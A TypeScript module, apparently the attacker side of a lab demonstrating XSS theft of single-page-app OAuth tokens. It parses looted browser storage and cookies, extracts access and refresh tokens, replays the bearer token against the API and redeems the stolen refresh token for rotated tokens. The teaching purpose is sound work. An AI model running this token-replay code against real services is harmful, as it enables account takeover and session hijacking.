import { z } from "zod";

/** Where the lab is, as the attacker knows it: public URLs only, like any other site on the web. */
export type LabAddresses = { siteOrigin: string; apiUrl: string; issuer: string };

/** The storage key the SPA keeps its tokens under (local and session choices). */
const SPA_TOKENS_KEY = "lab-spa-tokens";
const SPA_CLIENT_ID = "lab-spa";

/** What the injected script sends: everything it could read in the page, and what it managed to do with the page's own code. */
export const lootSchema = z.object({
  /** The storage choice the app said it uses (`localStorage["lab-spa-storage"]`), if any. */
  storageChoice: z.string().max(32).optional(),
  localStorage: z.record(z.string().max(200), z.string().max(20_000)),
  sessionStorage: z.record(z.string().max(200), z.string().max(20_000)),
  cookies: z.string().max(20_000),
});
export type Loot = z.infer<typeof lootSchema>;

const storedTokensSchema = z.object({
  access_token: z.string().min(1).optional(),
  refresh_token: z.string().min(1).optional(),
});

/** The tokens the attacker now holds (kept only for the next replay of this demonstration; never sent back out). */
export type HeldTokens = { accessToken?: string; refreshToken?: string };

/** Finds the SPA's tokens in whichever storage held them. */
export function tokensIn(loot: Loot): HeldTokens & { foundIn: string[] } {
  const foundIn: string[] = [];
  const held: HeldTokens = {};
  for (const [where, storage] of [
    ["localStorage", loot.localStorage],
    ["sessionStorage", loot.sessionStorage],
  ] as const) {
    const raw = storage[SPA_TOKENS_KEY];
    if (raw === undefined) continue;
    let json: unknown;
    try {
      json = JSON.parse(raw);
    } catch {
      continue;
    }
    const parsed = storedTokensSchema.safeParse(json);
    if (!parsed.success) continue;
    foundIn.push(where);
    held.accessToken ??= parsed.data.access_token;
    held.refreshToken ??= parsed.data.refresh_token;
  }
  return { ...held, foundIn };
}

/** A JWT's `exp`, read without verifying it: the attacker only wants to know how long the token lasts. */
function expiresAt(jwt: string): number | undefined {
  const payload = jwt.split(".")[1];
  if (!payload) return undefined;
  try {
    const claims: unknown = JSON.parse(Buffer.from(payload, "base64url").toString("utf8"));
    const exp = z.object({ exp: z.number() }).safeParse(claims);
    return exp.success ? exp.data.exp * 1000 : undefined;
  } catch {
    return undefined;
  }
}

type AccessTokenReplay = {
  /** The API's status for `GET /me` with the stolen bearer, from this process, outside the browser. */
  status: number;
  /** Whose data the API handed over (the token's subject), when it did. */
  subject?: string;
  /** When the stolen access token stops working, by its own `exp` (ISO). */
  expiresAt?: string;
};

type RefreshTokenReplay = {
  /** The token endpoint's status for the stolen refresh token, used as `lab-spa` (a public client: no secret to steal). */
  status: number;
  /** The OAuth error, when refused (`invalid_grant`: used before, or the grant was revoked). */
  error?: string;
  /** A new access and refresh token came back: the attacker now holds the live chain. */
  rotated: boolean;
  /** The API's status for `GET /me` with the access token the refresh returned. */
  newAccessTokenStatus?: number;
};

async function callMe(addresses: LabAddresses, accessToken: string): Promise<AccessTokenReplay> {
  const response = await fetch(`${addresses.apiUrl}/me`, { headers: { Authorization: `Bearer ${accessToken}` } });
  const body: unknown = await response.json().catch(() => undefined);
  const subject = z.object({ sub: z.string() }).safeParse(body);
  const exp = expiresAt(accessToken);
  return {
    status: response.status,
    ...(subject.success ? { subject: subject.data.sub } : {}),
    ...(exp === undefined ? {} : { expiresAt: new Date(exp).toISOString() }),
  };
}

const tokenResponseSchema = z.object({ access_token: z.string(), refresh_token: z.string().optional() });

/** Uses a stolen refresh token at the provider's token endpoint; on success the rotated tokens replace the held ones. */
async function refresh(addresses: LabAddresses, held: HeldTokens): Promise<RefreshTokenReplay> {
  const response = await fetch(`${addresses.issuer}/token`, {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body: new URLSearchParams({ grant_type: "refresh_token", refresh_token: held.refreshToken ?? "", client_id: SPA_CLIENT_ID }),
  });
  const body: unknown = await response.json().catch(() => undefined);
  const tokens = tokenResponseSchema.safeParse(body);
  if (!response.ok || !tokens.success) {
    const error = z.object({ error: z.string().max(100) }).safeParse(body);
    return { status: response.status, rotated: false, ...(error.success ? { error: error.data.error } : {}) };
  }
  held.accessToken = tokens.data.access_token;
  if (tokens.data.refresh_token) held.refreshToken = tokens.data.refresh_token;
  return {
    status: response.status,
    rotated: true,
    newAccessTokenStatus: (await callMe(addresses, tokens.data.access_token)).status,
  };
}

export type ReplayResult = {
  at: string;
  accessToken: AccessTokenReplay | null;
  refreshToken: RefreshTokenReplay | null;
};

/** Replays whatever the attacker holds, from outside the browser: the access token at the API, the refresh token at the provider. */
export async function replay(addresses: LabAddresses, held: HeldTokens): Promise<ReplayResult> {
  const accessToken = held.accessToken ? await callMe(addresses, held.accessToken) : null;
  const refreshToken = held.refreshToken ? await refresh(addresses, held) : null;
  return { at: new Date().toISOString(), accessToken, refreshToken };
}
